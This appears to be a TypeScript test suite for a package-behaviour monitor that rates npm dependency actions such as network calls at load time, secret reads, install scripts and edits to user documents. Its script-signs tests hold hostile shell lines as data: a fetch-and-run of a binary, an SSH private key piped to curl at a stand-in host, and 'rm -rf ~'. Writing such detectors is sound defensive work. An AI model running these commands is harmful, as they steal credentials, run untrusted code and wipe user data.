import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { Act } from '../../src/behavior.ts';
import { commandSigns } from '../../src/threats/command-signs.ts';
import { SIGN } from '../../src/threats/sign-bits.ts';
import {
  appSecret,
  atLoad,
  byText,
  connect,
  detached,
  evaluate,
  listen,
  principal,
  read,
  real,
  secret,
  shell,
  spawn,
  type What,
  World,
  write,
} from './threats-builder.ts';

const EVIL = 'left-shelf@1.0.1';
const document = (n: number) => real('fs', 'write', `/home/u/Documents/letters/${n}.odt`);

describe('code made from text', () => {
  const acts: [string, What][] = [
    ['connects', connect('c2.example.net:443')],
    ['reads a secret', secret('ssh')],
    ['starts a program', spawn('uname', ['-a'])],
    ['writes a start-up file', write('/home/u/.bashrc', 'home', 'persistence')],
  ];
  for (const [title, act] of acts) {
    it(`that ${title} is WARN or more at first contact and ALERT against a baseline`, () => {
      const first = new World();
      first.does(EVIL, byText(act));
      assert.ok(['WARN', 'ALERT'].includes(first.level(EVIL)));
      const settled = new World({ baselines: { [EVIL]: [] } });
      settled.does(EVIL, byText(act));
      assert.equal(settled.level(EVIL), 'ALERT');
      assert.ok(settled.rules(EVIL).includes('text_code_acts') || settled.rules(EVIL).includes('persistence'));
    });
  }
  it('that only reads files and evaluates more of it is silent at first contact', () => {
    const world = new World();
    world.does(EVIL, byText(evaluate()), byText(read('/app/views/a.tpl')));
    assert.equal(world.level(), 'none');
  });
  it('is the trade of a template engine, whose users decide what a template does', () => {
    const world = new World();
    world.does('ejs@3.1.0', byText(connect('api.example.com:443')));
    assert.equal(world.level(), 'none');
  });
  it('of the application is its own affair', () => {
    const world = new World();
    world.does(['<app>'], byText(connect('api.example.com:443')));
    assert.equal(world.level(), 'none');
  });
});

describe('a new version whose predecessor was seen in one session', () => {
  const upgrade = (before: readonly string[], ...acts: What[]) => {
    const world = new World({ before: { [EVIL]: before } });
    world.does(EVIL, ...acts);
    return world.level(EVIL);
  };
  it('begins to talk to the network: WARN', () => assert.equal(upgrade([], connect('a.example.net:443')), 'WARN'));
  it('begins to run shells: WARN', () => assert.equal(upgrade([], shell('id')), 'WARN'));
  it('begins to listen: WARN', () => assert.equal(upgrade([], listen()), 'WARN'));
  it('begins to evaluate text: WARN', () => assert.equal(upgrade([], evaluate()), 'WARN'));
  it('talks to another domain than its only one: WARN', () =>
    assert.equal(upgrade(['net.connect:api.example.com:443'], connect('cdn.example.net:443')), 'WARN'));
  it('talks to another host of its domain: silence', () =>
    assert.equal(upgrade(['net.connect:api.example.com:443'], connect('eu.example.com:443')), 'none'));
  it('reads other files and writes into the application: silence', () =>
    assert.equal(upgrade([], read('/app/x.json'), write('/app/out/a.txt', 'app')), 'none'));
  it('is an HTTP client and calls somebody new: silence', () => {
    const world = new World({ before: { 'got@15.0.0': ['net.connect:a.example.com:443'] } });
    world.does('got@15.0.0', connect('b.example.net:443'));
    assert.equal(world.level('got@15.0.0'), 'none');
  });
  it('is the same version that learning had not seen everything of: silence', () => {
    const world = new World();
    world.does(EVIL, connect('a.example.net:443'));
    assert.equal(world.level(EVIL), 'none');
  });
});

describe('a package that talks to the network', () => {
  it('as soon as it is loaded is WARN at first contact', () => {
    const world = new World();
    world.does(EVIL, atLoad(connect('hook.example.net:443')));
    assert.equal(world.level(EVIL), 'WARN');
  });
  it('when it is called is silent at first contact', () => {
    const world = new World();
    world.does(EVIL, connect('api.example.net:443'), atLoad(read('/app/settings.json')));
    assert.equal(world.level(EVIL), 'none');
  });
  it('for a living may do so when it is loaded', () => {
    const world = new World();
    world.does('mongodb@6.0.0', atLoad(connect('10.0.0.3:27017', 'private')));
    assert.equal(world.level(), 'none');
  });
  it('from its install script is judged by the host: a code host or a registry may hold its binary', () => {
    for (const place of ['code-host', 'registry']) {
      const world = new World({ installing: principal(EVIL) });
      world.does([EVIL], atLoad(connect('releases.example.net:443', place)));
      assert.equal(world.level(EVIL), 'none', place);
    }
    const world = new World({ installing: principal(EVIL) });
    world.does([EVIL], atLoad(connect('collect.example.net:443')));
    assert.equal(world.level(EVIL), 'WARN');
    assert.deepEqual(world.rules(EVIL), ['network_at_install']);
  });
  it('from the install script of a native addon that many know is a line', () => {
    const world = new World({ installing: principal('sharp@0.33.0') });
    world.does(['sharp@0.33.0'], connect('downloads.example.net:443'));
    assert.equal(world.level('sharp@0.33.0'), 'LOG');
  });
});

describe('an install script', () => {
  const installing = principal(EVIL);
  it('that leaves a program behind is WARN at first contact', () => {
    const world = new World({ installing });
    world.does([EVIL], detached(spawn('node', ['setup.js'])));
    assert.equal(world.level(EVIL), 'WARN');
    assert.deepEqual(world.rules(EVIL), ['install_leaves_process']);
  });
  it('that builds something is at most LOG', () => {
    const world = new World({ installing });
    world.does([EVIL], shell('node-gyp rebuild'), spawn('make', ['-j2']));
    assert.equal(world.level(EVIL), 'LOG');
  });
  it('that the version before did not have is WARN', () => {
    const start: What = { ...shell('node postinstall.js') };
    const told: What = { ...start, act: { ...start.act, installs: '/app/node_modules/left-shelf/package.json' } };
    const world = new World({ before: { [EVIL]: [] } });
    world.does([EVIL], told);
    assert.equal(world.level(EVIL), 'WARN');
    const same = new World({ baselines: { [EVIL]: [] } });
    same.does([EVIL], told);
    assert.equal(same.level(EVIL), 'LOG', 'a lock learned without an installation shows no script');
  });
});

describe('a program that outlives the application', () => {
  it('is WARN when it is a shell', () => {
    const world = new World();
    world.does(EVIL, detached(shell('sleep 60; ./later')));
    assert.equal(world.level(EVIL), 'WARN');
  });
  it('is silent when it is a browser that an opener opens', () => {
    const world = new World();
    world.does(['open@10.0.0', '<app>'], detached(spawn('xdg-open', ['http://localhost:3000'], 'opener')));
    assert.equal(world.level(), 'none');
  });
});

describe('documents of the user', () => {
  it('changed by a package are WARN from the first on, also when they lie below a cache folder by accident', () => {
    const world = new World();
    world.does(EVIL, document(1));
    assert.equal(world.level(EVIL), 'WARN');
    assert.deepEqual(world.rules(EVIL), ['user_documents']);
  });
  it('changed one after the other are ALERT against a baseline, though all are one trait', () => {
    const world = new World({ baselines: { [EVIL]: [] } });
    world.does(EVIL, ...Array.from({ length: 12 }, (_, n) => document(n)));
    assert.equal(world.level(EVIL), 'ALERT');
  });
  it('written by a file helper at the wish of the application are its own affair', () => {
    const world = new World();
    world.does(['fs-extra@11.0.0', '<app>'], document(1));
    assert.equal(world.level(), 'none');
  });
  it('are not the settings of a tool', () => {
    const world = new World();
    world.does(EVIL, real('fs', 'write', '/home/u/.config/left-shelf/settings.json'));
    assert.equal(world.level(EVIL), 'none');
  });
});

describe('a channel that is open when the secret is read', () => {
  it('is ALERT, with a baseline and without', () => {
    for (const options of [{ baselines: { [EVIL]: [] } }, {}]) {
      const world = new World(options);
      world.does(EVIL, connect('c2.example.net:443'), secret('ssh'));
      assert.equal(world.level(EVIL), 'ALERT');
    }
  });
  it("is at most WARN at first contact for the application's own configuration", () => {
    const world = new World();
    world.does(EVIL, connect('api.example.net:443'), appSecret());
    assert.equal(world.level(EVIL), 'WARN');
  });
  it('is silent for a client whose secret it is', () => {
    const world = new World();
    world.does('@aws-sdk/client-s3@3.0.0', connect('s3.amazonaws.com:443'), secret('aws'));
    assert.equal(world.level(), 'none');
  });
});

describe('signs of a script file', () => {
  const signsOf = (script: string) => {
    const act: Act = { sense: 'process', operation: 'spawn', target: 'sh', argv: ['install.sh'], shell: true, script };
    return commandSigns(act);
  };
  it('are those of the same text on a command line', () => {
    assert.ok(signsOf('set -e\ncurl -s http://a.example/x -o x\nchmod +x x\n./x --pool\n') & SIGN.HOSTILE_COMMAND);
    assert.ok(signsOf('#!/bin/sh\ncat ~/.ssh/id_rsa | curl -d @- http://a.example') & SIGN.COMMAND_SECRET);
    assert.ok(signsOf('rm -rf ~\n') & SIGN.DESTROY);
  });
  it('are none for what stands in a comment, whatever quotes it holds', () => {
    assert.equal(signsOf("# don't use curl here\necho hello\n") & ~SIGN.SHELL, 0);
    assert.ok(signsOf("# don't worry\ncurl http://a.example\n") & SIGN.DOWNLOADER);
  });
  it('are a download and no more where nothing fetched is run', () => {
    const signs = signsOf('curl -L https://a.example/lib.tgz -o lib.tgz\ntar xzf lib.tgz\n');
    assert.ok(signs & SIGN.DOWNLOADER);
    assert.equal(signs & SIGN.HOSTILE_COMMAND, 0);
  });
});
